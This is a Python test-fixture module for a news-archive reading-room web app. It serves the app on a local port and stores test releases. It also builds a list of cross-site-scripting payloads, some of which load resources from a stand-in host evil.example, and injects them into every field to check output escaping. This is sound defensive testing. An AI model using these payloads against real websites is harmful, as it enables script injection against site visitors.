"""The reading room as readers have it: served over HTTP from a thread of the test's process."""

from __future__ import annotations

import http.client
import socket
import threading
import time
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

import uvicorn

from newscrawler.archive import Archive, articles
from newscrawler.content import content_hash
from newscrawler.items import PUBLIC_FIELDS, Capture
from newscrawler.reading_room.app import create_app

NOW = "2026-03-01T08:00:00Z"


@dataclass(frozen=True, slots=True)
class Answer:
    """What a server answered; names of headers in small letters."""

    status: int
    headers: Mapping[str, str]
    text: str


@dataclass(frozen=True, slots=True)
class House:
    """A reading room that is open at `url`."""

    url: str

    def get(self, path: str, method: str = "GET", **headers: str) -> Answer:
        """Ask for a page; an underscore in a header's name is a hyphen."""
        connection = http.client.HTTPConnection(urlsplit(self.url).netloc, timeout=30)
        try:
            named = {name.replace("_", "-"): value for name, value in headers.items()}
            connection.request(method, path, headers=named)
            answer = connection.getresponse()
            told = {name.lower(): value for name, value in answer.getheaders()}
            return Answer(answer.status, told, answer.read().decode())
        finally:
            connection.close()


@contextmanager
def opened(archive_url: str, **options: Any) -> Iterator[House]:
    """Serve an archive at a free port of this machine until the end of the block."""
    app = create_app(archive_url, **options)
    config = uvicorn.Config(app, lifespan="off", log_level="error", access_log=False)
    server = uvicorn.Server(config)
    with socket.create_server(("127.0.0.1", 0)) as listening:
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]})
        thread.start()
        try:
            while not server.started:
                time.sleep(0.01)
            yield House(f"http://127.0.0.1:{listening.getsockname()[1]}")
        finally:
            server.should_exit = True
            thread.join()
            app.state.shelf.close()


def store(
    archive: Archive, key: str = "1", page: bytes | Capture | None = b"<p>A page", **changes: Any
) -> None:
    """Store a release, with its page unless that is None."""
    values: dict[str, Any] = dict.fromkeys(PUBLIC_FIELDS)
    values |= {
        "room": "a_room",
        "key": key,
        "url": f"https://a.example/{key}",
        "title": "A title",
        "create_time": "2024-06-04",
        "create_time_precision": "day",
        "body": "A text.",
        "language": "en",
        "attachments": [],
        "images": [],
        "missing": [],
        "evidence": {},
        "crawled_at": NOW,
    }
    values |= changes
    values["content_hash"] = content_hash(values)
    capture = None if isinstance(page, bytes) else page
    if isinstance(page, bytes):
        headers = {"Content-Type": "text/html; charset=utf-8"}
        address = str(values["url"])
        capture = Capture(url=address, body=page, status=200, headers=headers, fetched_at=NOW)
    archive.run(articles.store, values, capture, extractor="1", crawl_id=None)


# ── what a hostile site may write ──
_ACTS = (
    "<script>{act}</script>",
    "<ScRiPt >{act}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={act}>",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload={act}>",
    "<svg><animate onbegin={act} attributeName=x></svg>",
    "<body onload={act}>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button autofocus onfocus={act}>x</button></form>",
    "<input autofocus onfocus={act}>",
    "<details open ontoggle={act}>",
    "<video><source onerror={act}></video>",
    "<a href=javascript:{act}>x</a>",
    "<a href='java&#10;script:{act}'>x</a>",
    "<math><mtext><style><img src=x onerror={act}></style></mtext></math>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "javascript:{act}",
    "data:text/html,<script>{act}</script>",
)
_WRAPPERS = (
    "{0}",
    "\"'>{0}",
    "</title></textarea></style>{0}",
    "--></script>{0}<!--",
    "]]>{0}<![CDATA[",
    "{{{{7*7}}}}{{% raw %}}{0}",
    "&lt;{0}&gt;",
    "\u202e{0}\x00\u2028",
)
PAYLOADS = [
    wrapper.format(act.format(act="document.documentElement.dataset.hit=1"))
    for wrapper in _WRAPPERS
    for act in _ACTS
]


def store_payload(archive: Archive, number: int) -> None:
    """Store a release that has a payload in every field."""
    bad = PAYLOADS[number]
    store(
        archive,
        key=f"{number}:{bad}",
        page=f"<title>{bad}</title><h1>{bad}</h1><p>{bad}</p>".encode(),
        url=bad if number % 2 else f"https://a.example/{bad}",
        title=bad,
        breadcrumb=["Home", bad],
        byline=[bad],
        body=f"{bad}\n\nSecond {number}",
        body_html=f"<p>{bad}</p>" if number % 3 else None,
        language=bad,
        create_time="2024-06-04" + ("" if number % 5 else bad),
        attachments=[{"url": bad, "text": bad}],
        images=[{"url": bad, "alt": bad, "caption": bad}],
        evidence={"title": {"how": bad, "where": "//h1", "raw": bad, "why": bad}},
    )
